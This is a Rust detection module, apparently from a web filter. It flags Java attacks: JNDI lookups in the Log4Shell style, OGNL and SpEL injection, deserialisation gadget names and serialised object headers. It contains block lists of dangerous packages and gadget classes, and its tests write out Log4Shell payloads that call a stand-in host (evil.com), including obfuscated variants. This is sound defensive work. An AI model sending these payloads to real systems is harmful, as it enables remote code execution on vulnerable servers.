//! Java attacks: class names that only appear in exploit payloads (runtime and process
//! classes, reflection, script engines, deserialisation gadget chains), JNDI lookups
//! (Log4Shell, with its nested `${lower:j}` obfuscation undone), expression-language
//! injection (OGNL, SpEL, Spring's class-loader path) and serialised Java objects.

use super::Hit;

/// Packages whose classes give code execution or file access when named in a request.
pub(crate) const PACKAGES: &[&str] = &[
    "java.lang.",
    "java.io.",
    "java.nio.",
    "java.net.",
    "java.util.",
    "java.beans.",
    "java.rmi.",
    "java.security.",
    "javax.script.",
    "javax.naming.",
    "javax.management.",
    "javax.xml.",
    "com.sun.",
    "sun.misc.",
    "sun.reflect.",
    "org.apache.commons.",
    "org.apache.xalan",
    "org.apache.xbean",
    "org.apache.tomcat.",
    "org.springframework.",
    "org.codehaus.groovy.",
    "org.hibernate.",
    "org.omg.",
    "com.opensymphony.xwork2",
    "com.bea.",
    "ognl.",
    "bsh.",
    "groovy.lang.",
    "jdk.jshell",
    "org.mozilla.javascript",
    "com.mchange.",
    "org.yaml.snakeyaml",
    "com.alibaba.fastjson",
    "com.fasterxml.jackson.",
];

/// Classes and gadget names that are the payload themselves.
pub(crate) const GADGETS: &[&str] = &[
    "processbuilder",
    "getruntime",
    "invokertransformer",
    "instantiatetransformer",
    "clonetransformer",
    "chainedtransformer",
    "constanttransformer",
    "forclosure",
    "whileclosure",
    "instantiatefactory",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "templatesimpl",
    "annotationinvocationhandler",
    "badattributevalueexpexception",
    "jdbcrowsetimpl",
    "scriptenginemanager",
    "classloader",
    "defineclass",
    "objectinputstream",
    "lazymap",
    "transformedmap",
    "xalan",
    "beanutils",
    "urlclassloader",
    "bytearrayinputstream",
    "jndilookup",
    "rmiconnector",
];

/// Looks for Java attacks in `text` / `folded`. In a payload decoded from base64, a gadget
/// name on its own is enough.
pub fn detect(text: &str, folded: &str, hidden: bool) -> Option<Hit> {
    if !ANCHORS.is_match(folded) {
        return None;
    }
    let mut best = None;
    if folded.contains("${") || folded.contains("jndi") {
        best = jndi(folded);
    }
    if folded.contains('.') {
        best = Hit::better(best, class_names(folded));
        best = Hit::better(best, expression_language(text, folded));
    } else if folded.contains('#') || folded.contains("%{") {
        best = Hit::better(best, expression_language(text, folded));
    }
    if hidden || folded.contains('.') {
        best = Hit::better(best, gadgets(folded, hidden));
    }
    if folded.contains("aced0005") {
        best = Hit::better(
            best,
            Some(Hit::new(6, "serialised java object", 0, folded.len())),
        );
    }
    best
}

static ANCHORS: std::sync::LazyLock<aho_corasick::AhoCorasick> = std::sync::LazyLock::new(|| {
    let mut patterns: Vec<&str> = PACKAGES.iter().map(|p| p.trim_end_matches('.')).collect();
    patterns.extend(GADGETS);
    patterns.extend([
        "${",
        "jndi",
        "runtime",
        "processbuilder",
        "aced0005",
        "#_memberaccess",
        "@java",
        "#context",
        "#request",
        "t(java",
        "classloader",
        "getclass",
        "%{",
        "#ognl",
        "@ognl",
        "new java",
        "java",
    ]);
    super::matcher(&patterns)
});

/// Serialised Java objects found in decoded base64 bytes.
pub fn detect_bytes(bytes: &[u8]) -> Option<Hit> {
    bytes
        .starts_with(&[0xAC, 0xED, 0x00, 0x05])
        .then(|| Hit::new(6, "serialised java object", 0, bytes.len()))
}

/// `${jndi:ldap://...}` and its obfuscations (`${${lower:j}ndi:`, `${::-j}`, `${env:X:-j}`).
fn jndi(folded: &str) -> Option<Hit> {
    let resolved = resolve_lookups(folded);
    let squeezed: String = resolved.chars().filter(|c| !c.is_whitespace()).collect();
    let at = squeezed.find("jndi:")?;
    let rest = &squeezed[at + 5..];
    let scheme = [
        "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http",
    ]
    .iter()
    .any(|s| rest.starts_with(s));
    scheme.then(|| Hit::new(4, "jndi lookup", 0, folded.len()))
}

/// Replaces `${...:-x}` defaults by `x` and `${lower:x}`/`${upper:x}` by `x`, innermost
/// first, a bounded number of times.
fn resolve_lookups(s: &str) -> String {
    let mut cur = s.to_string();
    for _ in 0..16 {
        let Some(open) = cur.rfind("${") else {
            break;
        };
        let Some(close) = cur[open..].find('}').map(|p| open + p) else {
            break;
        };
        let inner = &cur[open + 2..close];
        let value = if let Some(at) = inner.find(":-") {
            inner[at + 2..].to_string()
        } else if let Some(v) = inner
            .strip_prefix("lower:")
            .or_else(|| inner.strip_prefix("upper:"))
        {
            v.to_string()
        } else if inner.starts_with("jndi:") {
            break;
        } else {
            inner.to_string()
        };
        cur.replace_range(open..=close, &value);
    }
    cur.replace("$", "")
}

/// Fully qualified names in the dangerous packages.
fn class_names(folded: &str) -> Option<Hit> {
    for pkg in PACKAGES {
        // `org.apache.commons` on its own names the package as surely as a class in it.
        let bare = pkg.trim_end_matches('.');
        let search = if folded.contains(pkg) || !bare.contains('.') {
            *pkg
        } else {
            bare
        };
        for (at, _) in folded.match_indices(search) {
            let before = folded[..at].chars().next_back();
            if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                continue;
            }
            let rest = &folded[at + search.len()..];
            if search == bare && rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_') {
                continue;
            }
            let class_len = rest
                .bytes()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == b'.' || *c == b'_')
                .count();
            if class_len == 0
                && search == *pkg
                && !pkg.ends_with(|c: char| c.is_ascii_alphanumeric())
            {
                continue;
            }
            let name = &rest[..class_len];
            let severe = [
                "runtime",
                "processbuilder",
                "process",
                "reflect",
                "system",
                "class",
                "scriptenginemanager",
                "classloader",
                "objectinputstream",
            ]
            .iter()
            .any(|s| name.starts_with(s) || name.contains(&format!(".{s}")));
            let end = (at + search.len() + class_len).min(folded.len());
            let score = if severe {
                6
            } else if in_sentence(folded, at, end) {
                30
            } else {
                12
            };
            return Some(Hit::new(score, "java class name", at, end));
        }
    }
    None
}

/// Whether the class name at `folded[start..end]` is written as a word of a sentence
/// (`java.util.List vs ArrayList`, `is java.lang.String immutable in practice`): it stands
/// between spaces and at least two words of letters stand beside it. A class name on its
/// own, or glued to calls and brackets, is what expression and deserialisation payloads
/// carry; those that run code (`Runtime`, `ProcessBuilder`, reflection) count anywhere.
// TODO: a value that is only a harmless class name (`java.lang.String`) is still blocked at
// paranoia 1 (the CRS corpus calls it an attack); a Java help form needs an exclusion.
fn in_sentence(folded: &str, start: usize, end: usize) -> bool {
    let b = folded.as_bytes();
    let spaced = (start == 0 || b[start - 1] == b' ') && b.get(end).is_none_or(|c| *c == b' ');
    let words = folded[..start]
        .split(' ')
        .chain(folded[end..].split(' '))
        .filter(|w| {
            let w = w.trim_end_matches(['.', ',', '?', '!']);
            w.len() >= 2 && w.bytes().all(|c| c.is_ascii_alphabetic() || c == b'\'')
        })
        .count();
    spaced && words >= 2
}

/// Gadget and runtime names chained with dots (`runtime.clonetransformer`,
/// `java.evil.runtime`), or alone inside a base64 payload.
fn gadgets(folded: &str, hidden: bool) -> Option<Hit> {
    let words: Vec<&str> = folded
        .split(|c: char| !c.is_ascii_alphanumeric() && c != '.' && c != '_' && c != '$')
        .filter(|w| w.contains('.') || hidden)
        .collect();
    for word in words {
        let parts: Vec<&str> = word.split('.').collect();
        let gadget = parts.iter().any(|p| GADGETS.contains(p));
        let runtime = parts
            .iter()
            .any(|p| *p == "runtime" || *p == "processbuilder");
        let java = parts.first().is_some_and(|p| *p == "java" || *p == "javax");
        let at = folded.find(word).unwrap_or(0);
        if (gadget && parts.len() >= 2) || (runtime && (java || parts.len() >= 2 && gadget)) {
            return Some(Hit::new(8, "java gadget chain", at, at + word.len()));
        }
        if runtime && java {
            return Some(Hit::new(8, "java runtime reference", at, at + word.len()));
        }
        // TODO: `runtime` alone in any base64 value counts too (base64 of "The Runtime
        // Environment" is blocked: third red team's finding); the corpus loses 33 attacks
        // without it, so it needs a second sign before it can go.
        if hidden && (gadget || runtime) {
            return Some(Hit::new(
                10,
                "java gadget name in encoded payload",
                at,
                at + word.len(),
            ));
        }
        if runtime
            && parts.len() >= 2
            && parts.iter().all(|p| !p.is_empty())
            && parts
                .iter()
                .any(|p| p.len() > 3 && p.chars().all(|c| c.is_ascii_lowercase()))
            && parts.len() >= 3
        {
            return Some(Hit::new(14, "java runtime reference", at, at + word.len()));
        }
    }
    None
}

/// OGNL (`%{`, `#_memberAccess`, `@java.lang.Runtime@`), SpEL (`T(java.`), and Spring's
/// `class.module.classLoader` path.
fn expression_language(_text: &str, folded: &str) -> Option<Hit> {
    const SHAPES: &[(&str, u8)] = &[
        ("#_memberaccess", 5),
        ("@java.lang.", 5),
        ("#context", 12),
        ("#request", 14),
        ("t(java.", 5),
        ("class.module.classloader", 5),
        ("class.classloader", 5),
        (".getclass().forname", 6),
        ("getruntime().exec", 5),
        (".getruntime()", 6),
        ("new java.", 8),
        ("%{(#", 6),
        ("#ognl", 8),
        ("@ognl", 8),
        ("${class.", 8),
    ];
    let squeezed: String = folded.chars().filter(|c| !c.is_whitespace()).collect();
    SHAPES
        .iter()
        .find(|(p, _)| squeezed.contains(p))
        .map(|(p, score)| {
            Hit::new(
                *score,
                "expression language injection",
                folded.find(p.get(..3).unwrap_or(p)).unwrap_or(0),
                folded.len(),
            )
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(s: &str) -> Option<u8> {
        detect(s, &s.to_lowercase(), false).map(|h| h.score)
    }

    #[test]
    fn catches_log4shell_and_its_obfuscations() {
        assert!(score("${jndi:ldap://evil.com/x}").is_some_and(|s| s <= 5));
        assert!(score("${${lower:j}ndi:${lower:l}dap://evil.com/x}").is_some_and(|s| s <= 5));
        assert!(score("${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}").is_some_and(|s| s <= 5));
    }

    #[test]
    fn class_names_in_a_programmer_question_are_not_payloads() {
        for text in [
            "java.util.List vs ArrayList",
            "is java.lang.String immutable in practice",
            "java.util.HashMap vs TreeMap performance",
        ] {
            assert!(
                score(text).is_none_or(|s| s > 20),
                "{text}: {:?}",
                score(text)
            );
        }
    }

    #[test]
    fn class_names_alone_or_running_code_stay_blocked() {
        for text in [
            "java.lang.String",
            "java.lang.Integer",
            "what does java.lang.Runtime do",
            "${jndi:ldap://x}",
            "java.util.List.class.forName(x)",
        ] {
            assert!(
                score(text).is_some_and(|s| s <= 20),
                "{text}: {:?}",
                score(text)
            );
        }
    }

    #[test]
    fn catches_runtime_classes_and_gadget_chains() {
        assert!(score("java.lang.Runtime").is_some_and(|s| s <= 8));
        assert!(score("ProcessBuilder.evil.clonetransformer").is_some_and(|s| s <= 10));
        assert!(score("class.module.classLoader.resources").is_some_and(|s| s <= 8));
    }

    #[test]
    fn gadget_names_count_alone_only_inside_encoded_payloads() {
        assert_eq!(score("runtime"), None);
        assert!(detect("runtime", "runtime", true).is_some());
    }

    #[test]
    fn prose_about_java_is_not_an_attack() {
        assert_eq!(score("I like Java and coffee. The runtime was fast."), None);
    }
}
